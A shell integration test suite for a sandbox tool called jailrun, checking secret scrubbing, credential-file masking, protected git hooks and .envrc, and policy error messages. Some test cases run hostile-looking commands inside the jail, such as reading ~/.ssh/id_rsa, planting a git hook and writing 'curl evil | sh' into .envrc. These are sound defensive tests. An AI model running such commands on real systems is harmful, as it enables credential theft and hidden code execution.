#!/bin/sh
# Policies: secrets scrubbed and masked under every shipped policy, home
# modes, masks, protected paths, and precise errors for bad policies.
. "$JR_SRCDIR/tests/integration/lib.sh"

SHIPPED="base secrets strict default permissive"

case_env_scrubbed() {
	JR_ENV="GITHUB_TOKEN=tok-s1 my_api_key=tok-s2 AWS_SECRET_ACCESS_KEY=tok-s3 Db_Password=tok-s4 SAFE_VAR=visible"
	jr -- env
	check "GITHUB_TOKEN is scrubbed" lacks "$OUT" tok-s1
	check "a lower-case *_api_key is scrubbed (names compare case-insensitively)" lacks "$OUT" tok-s2
	check "AWS_SECRET_ACCESS_KEY is scrubbed" lacks "$OUT" tok-s3
	check "a mixed-case *_PASSWORD is scrubbed" lacks "$OUT" tok-s4
	check "an ordinary variable passes" contains "$OUT" SAFE_VAR=visible
	check "PATH passes" grep -q '^PATH=' "$OUT"
	jr --keep-env GITHUB_TOKEN -- env
	check "--keep-env GITHUB_TOKEN lets exactly that one through" contains "$OUT" GITHUB_TOKEN=tok-s1
	check "and no other secret" lacks "$OUT" tok-s3
	jr -D 'net none' -D 'env clear' -D 'env keep PATH LANG' -- env
	check "env clear passes only what keep names" test "$(cut -d= -f1 "$OUT" | sort | tr '\n' ' ')" = "LANG PATH "
	long=$(printf 'A%.0s' $(seq 300))
	JR_ENV="${long}_TOKEN=tok-long"
	jr -- env
	check "a secret with a 300-character name is scrubbed too" lacks "$OUT" tok-long
	JR_ENV=
	jr --env FOO=bar -D 'env set "SPACED=a b"' -- env
	check "--env sets a variable" contains "$OUT" FOO=bar
	check "env set takes a quoted value with spaces" contains "$OUT" "SPACED=a b"
	JR_ENV=
}

case_key_unreadable_every_policy() {
	for pol in $SHIPPED; do
		jr --policy "$pol" -- sh -c 'cat ~/.ssh/id_rsa; grep -r jailrun-test-secret ~ /tmp 2>/dev/null; true'
		check "$pol.pol: the fixture key is not readable anywhere in the jail" lacks "$OUT" jailrun-test-secret
	done
	check "and it is intact on the host" contains "$FIXHOME/.ssh/id_rsa" jailrun-test-secret
}

case_default_home_readonly() {
	echo "user config" >"$FIXHOME/.toolrc"
	chown "$CASE_UID" "$FIXHOME/.toolrc"
	jr --policy default -- sh -c 'cat ~/.toolrc; ls -A ~/.ssh | wc -l; echo x > ~/new'
	check "default.pol shows the home read-only: configuration is readable" contains "$OUT" "user config"
	check "~/.ssh is an empty directory" test "$(sed -n 2p "$OUT")" = 0
	check "the home is not writable" test ! -e "$FIXHOME/new"
}

case_permissive_home_writable() {
	echo "# rc" >"$FIXHOME/.bashrc"
	chown "$CASE_UID" "$FIXHOME/.bashrc"
	jr --policy permissive -- sh -c 'echo made > ~/made; echo evil >> ~/.bashrc; cat ~/.ssh/id_rsa'
	check "permissive.pol: home writes reach the host" test "$(cat "$FIXHOME/made" 2>/dev/null)" = made
	check "~/.bashrc stays protected" test "$(cat "$FIXHOME/.bashrc")" = "# rc"
	check "the key stays masked" lacks "$OUT" jailrun-test-secret
}

case_mask_option() {
	echo "do not read" >"$WS/secret.txt"
	mkdir "$WS/secret-dir"
	echo "hidden" >"$WS/secret-dir/f"
	chown -R "$CASE_UID" "$WS/secret.txt" "$WS/secret-dir"
	jr --mask secret.txt --mask "$WS/secret-dir" -- sh -c 'cat secret.txt; ls -A secret-dir; echo w > secret.txt; touch secret-dir/n'
	check "a masked file reads empty" lacks "$OUT" "do not read"
	check "a masked directory is empty" lacks "$OUT" f
	check "writing them fails" test "$RC" -ne 0
	check "the host files are untouched" sh -c "[ \"\$(cat '$WS/secret.txt')\" = 'do not read' ] && [ ! -e '$WS/secret-dir/n' ]"
	jr --mask secret.txt -- sh -c 'test -f secret.txt && ! test -s secret.txt && stat -c %a secret.txt'
	check "a masked file is an empty regular file, read-only (0444)" test "$(cat "$OUT")" = 444
}

case_mask_through_symlink() {
	# ~/.aws is a link into the workspace: the real target is what is masked.
	mkdir -p "$WS/creds/aws"
	echo "aws_secret_access_key=fixture-aws" >"$WS/creds/aws/credentials"
	chown -R "$CASE_UID" "$WS/creds"
	ln -s "$WS/creds/aws" "$FIXHOME/.aws"
	ln -s /nonexistent/docker "$FIXHOME/.docker"
	jr --policy default -- sh -c "cat ~/.aws/credentials; cat $WS/creds/aws/credentials; echo done"
	check "a masked symlink's target is hidden, by either path" lacks "$OUT" fixture-aws
	check "a dangling masked link is harmless" contains "$OUT" done
}

case_protected_git_hooks() {
	as_user git -C "$WS" init -q
	echo content >"$WS/f"
	chown "$CASE_UID" "$WS/f"
	echo "export X=1" >"$WS/.envrc"
	chown "$CASE_UID" "$WS/.envrc"
	jr -- sh -c 'echo "#!/bin/sh" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo evil >> .envrc; echo evil >> .git/config'
	check "a hook cannot be planted in .git/hooks" test ! -e "$WS/.git/hooks/pre-commit"
	check ".envrc cannot be changed" test "$(cat "$WS/.envrc")" = "export X=1"
	check ".git/config cannot be changed" lacks "$WS/.git/config" evil
	jr -- sh -c 'git add f && git -c user.name=t -c user.email=t@example.com commit -qm inside && git log --oneline | wc -l'
	check_rc 0 "git add and git commit still work in the workspace"
	check "the commit is there" test "$(as_user git -C "$WS" log --oneline | wc -l)" -eq 1
}

case_protected_symlink() {
	# hooks kept elsewhere and linked in: removing the link and making a
	# fresh hooks directory would slip past a protection of the target.
	as_user git -C "$WS" init -q
	rm -rf "$WS/.git/hooks"
	as_user mkdir "$WS/.githooks"
	as_user ln -s ../.githooks "$WS/.git/hooks"
	jr -- sh -c 'rm -f .git/hooks; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo evil > .githooks/pre-commit'
	check "a protected symlink stays in place" test -L "$WS/.git/hooks"
	check "and nothing was planted through it or in its target" test ! -e "$WS/.githooks/pre-commit"
}

case_concurrent_runs() {
	# A second run on the same workspace protects with the first's
	# placeholders; the first ending must not drop them.
	jr_background -- sleep 1
	sleep 0.4
	jr -- sh -c 'sleep 1.2; mkdir -p .vscode; echo "{}" > .vscode/tasks.json; echo x > .envrc/f'
	wait "$JR_PID" 2>/dev/null
	check "a protected path stays protected while another run on the workspace ends" test ! -e "$WS/.vscode/tasks.json"
	check "and the placeholders are gone once both have ended" test -z "$(ls -A "$WS")"
}

case_mask_parent_pinned() {
	mkdir -p "$WS/config"
	echo "SECRET=1" >"$WS/config/.env"
	chown -R "$CASE_UID" "$WS/config"
	jr --mask "$WS/config/.env" -- sh -c 'mv config old; mkdir config; touch config/.env'
	jr --mask "$WS/config/.env" -- cat "$WS/old/.env" "$WS/config/.env"
	check "renaming a masked file's directory away is refused" test ! -e "$WS/old"
	check "so no later run can read the secret" lacks "$OUT" "SECRET=1"
}

case_more_secrets() {
	mkdir -p "$FIXHOME/.config/git" "$FIXHOME/.cargo"
	echo "https://u:ghp_fixture@github.com" >"$FIXHOME/.config/git/credentials"
	echo 'token = "cargo-fixture"' >"$FIXHOME/.cargo/credentials.toml"
	echo "host:5432:*:u:pg-fixture" >"$FIXHOME/.pgpass"
	chown -R "$CASE_UID" "$FIXHOME"
	JR_ENV="GITHUB_PAT=pat-fixture OPENAI_KEY=key-fixture DATABASE_URL=postgres://u:dburl-fixture@h/db LC_API_TOKEN=lc-fixture LC_ALL=C"
	jr --policy default -- sh -c 'cat ~/.config/git/credentials ~/.cargo/credentials.toml ~/.pgpass; env'
	JR_ENV=
	for secret in ghp_fixture cargo-fixture pg-fixture pat-fixture key-fixture dburl-fixture lc-fixture; do
		check "default.pol keeps $secret out" lacks "$OUT" "$secret"
	done
	check "a real locale variable still passes" contains "$OUT" "LC_ALL=C"
}

case_git_worktree() {
	# In a worktree or submodule .git is a file pointing at the git dir;
	# rewritten, it would point git at hooks of the jail's choosing.
	echo "gitdir: /nonexistent/worktree" >"$WS/.git"
	chown "$CASE_UID" "$WS/.git"
	jr -- sh -c 'echo "gitdir: /tmp/evil" > .git'
	check "a workspace whose .git is a file works with the shipped policies" sh -c "grep -q 'Read-only file system' '$ERR'"
	check "and its gitdir pointer cannot be rewritten" test "$(cat "$WS/.git")" = "gitdir: /nonexistent/worktree"
	JR_ENV="SSH_AUTH_SOCK="
	jr -- true
	JR_ENV=
	check_rc 0 "an empty SSH_AUTH_SOCK does not break the shipped policies"
}

case_protect_survives_renames() {
	as_user git -C "$WS" init -q
	jr -- sh -c 'mv .git .git-old; mkdir -p .git/hooks && echo "#!/bin/sh" > .git/hooks/pre-commit'
	check "renaming .git away to plant a fresh hooks directory fails" test ! -e "$WS/.git-old"
	check "and no hook was planted" test ! -e "$WS/.git/hooks/pre-commit"
	before=$(ls "$WS/.git/hooks" | wc -l)
	jr -- sh -c 'rm -rf .git/hooks; mv .git/hooks hooks-moved'
	check "the hooks directory can be neither removed nor emptied" test "$(ls "$WS/.git/hooks" | wc -l)" -eq "$before"
}

case_mask_layers() {
	echo "github.com ssh-ed25519 AAAA" >"$FIXHOME/.ssh/known_hosts"
	chown "$CASE_UID" "$FIXHOME/.ssh/known_hosts"
	jr --policy default --ro "$FIXHOME/.ssh/known_hosts" -- sh -c 'cat ~/.ssh/known_hosts; cat ~/.ssh/id_rsa; ls ~/.ssh | tr "\n" " "'
	check "a file bound beneath a masked directory is visible" contains "$OUT" "github.com ssh-ed25519"
	check "the rest of the masked directory stays hidden" lacks "$OUT" jailrun-test-secret
	check "only that file is in it" contains "$OUT" "known_hosts "
	jr --mask /proc/cpuinfo -- sh -c 'wc -c </proc/cpuinfo'
	check "a mask works beneath /proc too" test "$(cat "$OUT")" = 0
}

case_protected_missing_paths() {
	# .vscode/tasks.json and .envrc run on the host later: even when they do
	# not exist yet the jail must not be able to create them.
	jr -- sh -c 'mkdir -p .vscode && echo "{}" > .vscode/tasks.json; echo "curl evil | sh" > .envrc; ls -A | tr "\n" " "'
	check "a missing protected directory cannot be created and filled" test ! -e "$WS/.vscode/tasks.json"
	check "a missing protected file cannot be created" test ! -f "$WS/.envrc"
	check "the placeholders are gone after the run" test -z "$(ls -A "$WS")"
	jr -- sh -c 'echo ordinary > newfile && mkdir newdir'
	check_rc 0 "other new files and directories can still be created"
	check "and they reach the host" test -f "$WS/newfile" -a -d "$WS/newdir"
}

# Placeholder directories are kept between runs in a spare pool in the
# caller's cache (mkdir/rmdir of fresh inodes is slow on ext4 under a
# stream of runs); a spare is reused only when it is still an empty
# directory jailrun made.
case_placeholder_spares() {
	cache=$(dirname "$WS")/cache
	mkdir -p "$cache" && chown "$CASE_UID:$CASE_UID" "$cache"
	pool=$cache/jailrun/placeholders
	JR_ENV="XDG_CACHE_HOME=$cache" jr -- true
	check_rc 0 "a run with a cache directory works"
	check "the workspace is left as it was" test -z "$(ls -A "$WS")"
	n=$(ls "$pool" 2>/dev/null | wc -l)
	check "its placeholder directories were kept in the spare pool" test "$n" -ge 5
	check "the pool is the caller's alone (0700)" test "$(stat -c %a "$pool")" = 700
	JR_ENV="XDG_CACHE_HOME=$cache" jr -- sh -c 'ls -A .vscode | wc -l; mkdir .vscode/x'
	check "a reused spare is an empty read-only directory in the jail" sh -c "[ \"\$(head -1 '$OUT')\" = 0 ] && grep -q 'Read-only file system' '$ERR'"
	check "and the pool did not grow (spares were reused)" test "$(ls "$pool" | wc -l)" -eq "$n"
	# The caller's own files never travel: a spare with something in it,
	# and a directory without jailrun's mark, are left alone.
	for slot in $(ls "$pool"); do
		echo host-data | as_user tee "$pool/$slot/keep" >/dev/null
	done
	as_user mkdir "$pool/99"
	JR_ENV="XDG_CACHE_HOME=$cache" jr -- sh -c 'ls -A .vscode .idea 2>&1; cat .vscode/keep 2>&1'
	check "a filled spare is not moved into the workspace" lacks "$OUT" host-data
	check "every filled spare is still in the pool" test "$(cat "$pool"/*/keep | grep -c host-data)" -eq "$n"
	check "the unmarked directory stays where it was" test -d "$pool/99"
	check "the workspace is left as it was" test -z "$(ls -A "$WS")"
	chmod 755 "$pool"
	JR_ENV="XDG_CACHE_HOME=$cache" jr -- sh -c 'mkdir .vscode/x'
	check "a pool others could reach is not used, and the run still protects" sh -c "grep -q 'Read-only file system' '$ERR' && [ -z \"\$(ls -A '$WS')\" ]"
	chmod 700 "$pool"
	rm -rf "$pool"/*
	# A spare another process opened up (0777) is not taken.
	JR_ENV="XDG_CACHE_HOME=$cache" jr -- true
	for slot in $(ls "$pool"); do chmod 777 "$pool/$slot"; done
	JR_ENV="XDG_CACHE_HOME=$cache" jr -- sh -c 'sleep 0.5' &
	sleep 0.3
	check "a spare whose mode was opened up is not put at a protected path" \
		sh -c "! stat -c %a '$WS/.vscode' '$WS/.idea' 2>/dev/null | grep -q 777"
	wait
	# A cache inside the workspace (the jail writes there) is never used:
	# one run could choose what a later run puts at its protected paths.
	JR_ENV="XDG_CACHE_HOME=$WS/.cache" jr -- true
	check "no spare pool is made inside the workspace" test ! -e "$WS/.cache/jailrun"
	rm -rf "$WS/.cache"
	check "and the workspace is left as it was" test -z "$(ls -A "$WS")"
}

write_policy() {
	printf '%b' "$2" >"$JR_TOP/$JR_MODE/$1"
	chmod 644 "$JR_TOP/$JR_MODE/$1"
}

case_policy_errors() {
	dir=$JR_TOP/$JR_MODE
	write_policy bad.pol 'include base.pol\n# a comment\ntmfs /scratch\n'
	jr --policy "$dir/bad.pol" -- touch "$WS/ran"
	check_rc 125 "a typo in a policy gives 125"
	check "with FILE:LINE:COL and a did-you-mean" contains "$ERR" "$dir/bad.pol:3:1: unknown directive 'tmfs', did you mean 'tmpfs'?"
	check "in one line" test "$(wc -l <"$ERR")" -eq 1
	check "and nothing ran" test ! -e "$WS/ran"
	write_policy inner.pol 'net none\nlimit memory 12Q\n'
	write_policy outer.pol 'include base.pol\ninclude inner.pol\n'
	jr --policy "$dir/outer.pol" -- true
	check "an error in an included file names the include chain" contains "$ERR" "$dir/inner.pol:2:14: limit memory: bad value '12Q' (a size such as 512M or 2G) (included from $dir/outer.pol:2)"
	write_policy loop.pol 'include loop.pol\n'
	jr --policy "$dir/loop.pol" -- true
	check "an include cycle is refused" sh -c "[ $RC -eq 125 ] && grep -q 'include cycle' '$ERR'"
	jr -D 'allow host bad_host!:99999' -- true
	check "a bad -D line names the command line" contains "$ERR" "<command line>:1:"
}

case_lint_and_explain() {
	jr --policy strict --lint
	check "--lint of a good policy exits 0" test "$RC" -eq 0
	write_policy typo.pol 'hom tmpfs\n'
	jr --policy "$JR_TOP/$JR_MODE/typo.pol" --lint
	check "--lint of a bad one exits 125" test "$RC" -eq 125
	jr -D 'net host' -D 'allow host example.com' --explain
	check "--explain accepts a clause this version cannot enforce" test "$RC" -eq 0
	check "and marks it NOT ENFORCED" contains "$OUT" "NOT ENFORCED: only the egress proxy (net proxy) can hold a connection to a name"
	jr --explain
	check "--explain names the mechanism of enforced clauses" contains "$OUT" "-> own network namespace with only lo"
	jr -D 'net host' -D 'allow host example.com' -- touch "$WS/ran"
	check_rc 125 "running it fails closed"
	check "saying which clause" contains "$ERR" "'allow host example.com' is not enforced"
	check "and nothing ran" test ! -e "$WS/ran"
	jr --net proxy -D 'allow host !example.com' -- touch "$WS/ran"
	check "--net proxy with a line that only removes runs" test "$RC" -eq 0 -a -e "$WS/ran"
	rm -f "$WS/ran"
}

case_policy_search() {
	jr --policy strict -- true
	check_rc 0 "--policy NAME finds NAME.pol in the search path"
	jr --policy strict.pol -- true
	check_rc 0 "--policy NAME.pol too"
	jr --policy no-such-policy -- true
	check "a missing policy is an error naming the search path" sh -c "[ $RC -eq 125 ] && grep -q \"policy 'no-such-policy' not found in $JR_TOP/policy\" '$ERR'"
	jr -D 'hostname via-set' -- hostname
	check "-D appends a policy line" test "$(cat "$OUT")" = via-set
}

run_cases case_env_scrubbed case_key_unreadable_every_policy case_default_home_readonly \
	case_permissive_home_writable case_mask_option case_mask_through_symlink \
	case_protected_git_hooks case_protected_symlink case_concurrent_runs case_mask_parent_pinned \
	case_more_secrets case_git_worktree case_protect_survives_renames case_mask_layers \
	case_protected_missing_paths case_placeholder_spares case_policy_errors case_lint_and_explain case_policy_search
